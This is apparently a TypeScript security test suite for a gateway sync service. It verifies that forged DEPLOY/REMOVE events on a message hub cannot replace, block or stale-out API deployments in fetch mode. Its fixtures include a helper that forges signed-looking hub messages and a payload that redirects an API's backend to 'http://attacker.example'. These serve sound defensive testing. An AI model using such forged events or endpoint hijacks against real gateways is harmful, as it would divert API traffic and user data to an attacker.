import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { nameBasedUuid } from "../../src/artifacts/digest.js";
import { sha256Hex } from "../../src/artifacts/gateway-api-dto.js";
import type { GatewayApiDto } from "../../src/artifacts/types.js";
import type { Gateway } from "../../src/gateway/gateway.js";
import { buildGatewayEvent } from "../../src/publisher/events-out.js";
import { publishRaw } from "../harness/broker.js";
import { synapseApi, TestCluster } from "../harness/cluster.js";
import { CHANGED, waitFor } from "../harness/wait.js";

const LABEL = "X";
const MAX_SEQ = 9_007_199_254_740_991;

/** What an attacker with publish rights on the hub sends: a WSO2-shaped DEPLOY/REMOVE with gwsync's headers. */
async function forge(
  exchange: string,
  o: { action: "deploy" | "remove"; dto: GatewayApiDto; revision: number; seq: number; inline: boolean },
): Promise<string> {
  const json = JSON.stringify(o.dto);
  const m = buildGatewayEvent({
    action: o.action,
    dto: o.dto,
    labels: [LABEL],
    result: {
      apiId: o.dto.apiId,
      revision: o.revision,
      sha256: sha256Hex(json),
      seq: o.seq,
      labels: [LABEL],
      changed: true,
    },
    region: "test",
    inlineArtifact: o.inline ? { maxBytes: 1024 * 1024 } : undefined,
  });
  await publishRaw(exchange, "notification", [m.body], { headers: m.headers, messageId: () => m.messageId });
  return m.messageId;
}

function evilDto(apiId: string, name: string): GatewayApiDto {
  return {
    name,
    version: "1.0.0",
    provider: "admin",
    tenantDomain: "carbon.super",
    apiId,
    apiDefinition: synapseApi({ name }).replace(
      /<send>.*<\/send>/s,
      '<send><endpoint><address uri="http://attacker.example"/></endpoint></send>',
    ),
  };
}

/**
 * Issue items 1 and 2, against a gateway in fetch mode (its publisher has publish_directly_to_gateway =
 * false): forged events with inline artifacts and huge revision/seq headers change nothing, and never
 * make a genuine change look stale.
 */
describe("forged DEPLOY/REMOVE events on the hub cannot take over a gateway in fetch mode", () => {
  const cluster = new TestCluster();
  let gw: Gateway;

  before(async () => {
    await cluster.startPublisher();
    gw = await cluster.startGateway({ name: "gw", labels: [LABEL] });
  });
  after(() => cluster.close());

  const file = (name: string) => join(cluster.deploymentDir("gw"), "api", `admin--${name}_v1.0.0.xml`);
  const handledIds = new Set<string>();
  before(() =>
    gw.events.on("handled", (_s: string, _k: string, id: string | undefined) => handledIds.add(id ?? "")),
  );
  const handled = (id: string) =>
    waitFor(gw.events, "handled", () => handledIds.has(id), `forged event ${id} handled`);

  test("a forged inline DEPLOY for a real API (revision 999999, seq 2^53-1) neither replaces its file nor makes the next republish stale", async () => {
    const pub = cluster.publisher!.publisher;
    const real = await Promise.resolve(pub.deployApi(synapseApi({ name: "Real", revision: 1 }), [LABEL]));
    await waitFor(
      gw.events,
      CHANGED,
      () => gw.deployer.get(real.apiId)?.revision === 1,
      "Real at revision 1",
    );
    const genuine = readFileSync(file("Real"), "utf8");

    await handled(
      await forge(cluster.exchange, {
        action: "deploy",
        dto: evilDto(real.apiId, "Real"),
        revision: 999_999,
        seq: MAX_SEQ,
        inline: true,
      }),
    );
    assert.equal(readFileSync(file("Real"), "utf8"), genuine, "the attacker's XML never reached the file");
    assert.doesNotMatch(readFileSync(file("Real"), "utf8"), /attacker\.example/);
    assert.equal(gw.deployer.get(real.apiId)?.revision, 1);
    assert.notEqual(gw.deployer.get(real.apiId)?.seq, MAX_SEQ);

    const v2 = await Promise.resolve(pub.deployApi(synapseApi({ name: "Real", revision: 2 }), [LABEL]));
    await waitFor(
      gw.events,
      CHANGED,
      () => gw.deployer.get(real.apiId)?.revision === v2.revision,
      "the genuine republish applied",
    );
    await gw.catchUp();
    assert.equal(gw.deployer.get(real.apiId)?.revision, 2);
  });

  test("a forged inline DEPLOY of an API that is in no store deploys nothing", async () => {
    const ghost = nameBasedUuid(["carbon.super", "admin", "Ghost", "1.0.0"]);
    await handled(
      await forge(cluster.exchange, {
        action: "deploy",
        dto: evilDto(ghost, "Ghost"),
        revision: 999_999,
        seq: MAX_SEQ,
        inline: true,
      }),
    );
    assert.equal(gw.deployer.get(ghost), undefined);
    assert.ok(!existsSync(file("Ghost")));
  });

  test("a forged REMOVE with a high revision for an API still to be published does not block it (its id is computable)", async () => {
    const future = nameBasedUuid(["carbon.super", "admin", "Future", "1.0.0"]);
    await handled(
      await forge(cluster.exchange, {
        action: "remove",
        dto: evilDto(future, "Future"),
        revision: 999_999,
        seq: MAX_SEQ,
        inline: false,
      }),
    );
    const r = await Promise.resolve(
      cluster.publisher!.publisher.deployApi(synapseApi({ name: "Future" }), [LABEL]),
    );
    assert.equal(r.apiId, future, "the attacker computed the id in advance");
    await waitFor(
      gw.events,
      CHANGED,
      () => gw.deployer.get(future) !== undefined,
      "the API deployed despite the forged REMOVE",
    );
  });

  test("after a restart, the gateway holds only what the store holds", async () => {
    await cluster.stopGateway("gw");
    gw = await cluster.startGateway({ name: "gw", labels: [LABEL] });
    const store = cluster.publisher!.publisher.store;
    const stored = await Promise.resolve(store.listArtifacts({ label: LABEL }));
    assert.deepEqual(
      gw.deployer
        .deployed()
        .map((d) => `${d.apiId}@${d.revision}`)
        .sort(),
      stored.map((a) => `${a.apiId}@${a.revision}`).sort(),
    );
  });
});
